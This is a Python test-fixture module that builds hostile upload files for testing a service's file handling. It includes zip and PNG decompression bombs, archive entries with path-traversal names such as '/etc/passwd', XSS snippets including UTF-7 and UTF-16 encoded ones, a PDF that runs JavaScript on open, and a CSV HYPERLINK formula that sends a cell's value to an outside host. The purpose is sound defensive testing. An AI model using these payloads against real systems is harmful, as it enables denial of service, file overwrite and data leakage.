"""Files that are not what they say, or far more: archives, pictures, documents, videos."""

import struct
import zipfile
import zlib
from functools import cache
from io import BytesIO
from random import Random

from PIL import Image

from tests.services import samples

MEGABYTES_50 = 50_000_000


def archive(entries: dict[str, bytes], *, flag: int = 0) -> bytes:
    """A ZIP file with these entries."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in entries.items():
            info = zipfile.ZipInfo(name)
            info.flag_bits |= flag
            info.compress_type = zipfile.ZIP_DEFLATED
            made.writestr(info, content)
    return buffer.getvalue()


def document(**more: bytes) -> dict[str, bytes]:
    """What a Word file holds at least."""
    return {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", **more}


@cache
def bomb() -> bytes:
    """A Word file of 50 KB that unpacks to 50 MB."""
    return archive(document() | {"word/x.xml": bytes(MEGABYTES_50)})


@cache
def crowd() -> bytes:
    """A Word file with thousands of entries, some of them outside of its folder."""
    names = {f"word/{n}.xml": b"" for n in range(5_000)}
    return archive(document() | names | {"../../../tmp/jahat": b"x", "/etc/passwd": b"x", "C:\\x": b"x"})


def lying() -> bytes:
    """A ZIP file whose end says that it has far more entries than it has."""
    content = bytearray(archive(document()))
    at = content.rfind(b"PK\x05\x06")
    content[at + 8 : at + 12] = b"\xff\xff\xff\xff"
    return bytes(content)


def png(width: int, height: int, data: bytes = b"", *, chunks: bytes = b"") -> bytes:
    """A PNG file that says it is so large, with any data behind it."""
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunks + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def chunk(kind: bytes, data: bytes) -> bytes:
    """One part of a PNG file."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def text_bomb() -> bytes:
    """A picture with a compressed remark of 50 MB. Source: PNG 1.2, zTXt."""
    remark = b"x\0\0" + zlib.compress(bytes(MEGABYTES_50))
    return png(1, 1, zlib.compress(bytes(5)), chunks=chunk(b"zTXt", remark))


def boxes() -> bytes:
    """A video of 200,000 empty boxes."""
    return samples.box(b"ftyp", b"isom") + samples.box(b"moov", samples.box(b"trak") * 200_000)


def markers() -> bytes:
    """A photo with 200,000 remarks."""
    photo = samples.picture("JPEG")
    return photo[:2] + b"\xff\xfe\x00\x03a" * 200_000 + photo[2:]


@cache
def frames() -> bytes:
    """A WebP with many pictures in one file."""
    buffer, pictures = BytesIO(), [Image.new("RGB", (300, 300), (n, 0, 0)) for n in range(60)]
    pictures[0].save(buffer, "WEBP", save_all=True, append_images=pictures[1:], lossless=True)
    return buffer.getvalue()


#: What people could call them, and what they are.
HOSTILE: dict[str, tuple[str, bytes]] = {
    "zip bomb in a document": ("a.docx", bomb()),
    "thousands of entries, some outside": ("a.docx", crowd()),
    "archive that lies": ("a.docx", lying()),
    "locked archive": ("a.docx", archive(document(), flag=1)),
    "archive behind a picture": ("a.png", samples.picture("PNG") + archive(document())),
    "archive behind a program": ("a.docx", b"MZ" + archive(document())),
    "picture of a billion pixels": ("a.png", png(60_000, 60_000, zlib.compress(bytes(1_000)))),
    "picture without pixels": ("a.png", png(0, 0)),
    "picture of more data than it says": ("a.png", png(2, 2, zlib.compress(bytes(MEGABYTES_50)))),
    "picture with a remark of 50 MB": ("a.png", text_bomb()),
    "picture with many frames": ("a.webp", frames()),
    "picture that is a page": ("a.jpg", b"\xff\xd8\xff<script>alert(1)</script>"),
    "page that is a text": ("a.txt", b"<html><script>alert(1)</script>"),
    "page in UTF-7": ("a.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "page in UTF-16": ("a.txt", "<script>alert(1)</script>".encode("utf-16")),
    "table of formulas": ("a.csv", b'=HYPERLINK("http://contoh.id?x="&A1),@SUM(1),-2+3'),
    "PDF that runs": ("a.pdf", b"%PDF-1.7 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "photo of very many remarks": ("a.jpg", markers()),
    "video of very many boxes": ("a.mp4", boxes()),
    "video without end": ("a.mp4", samples.box(b"ftyp", b"isom") + b"\x00\x00\x00\x01moov" + b"\xff" * 8),
    "video that says it ends before it begins": (
        "a.mp4",
        samples.box(b"ftyp", b"isom") + b"\x00\x00\x00\x04moov",
    ),
}


@cache
def _small() -> tuple[tuple[str, bytes], ...]:
    pictures = tuple((kind.lower(), samples.picture(kind)) for kind in ("PNG", "JPEG", "WEBP"))
    return (
        *pictures,
        ("mp4", samples.video()),
        ("docx", archive(document())),
        ("docx", lying()),
        ("txt", b"satu\n"),
    )


def attachment(dice: Random) -> tuple[str, bytes]:
    """A picture, document or video with bytes changed, after the ending that it should have."""
    ending, whole = dice.choice(_small())
    content = bytearray(whole)
    for _change in range(dice.randint(0, 4)):
        content[dice.randint(0, len(content) - 1)] = dice.randint(0, 255)
    return ending, bytes(content[: dice.randint(0, len(content))]) if dice.randint(0, 4) == 0 else bytes(
        content
    )
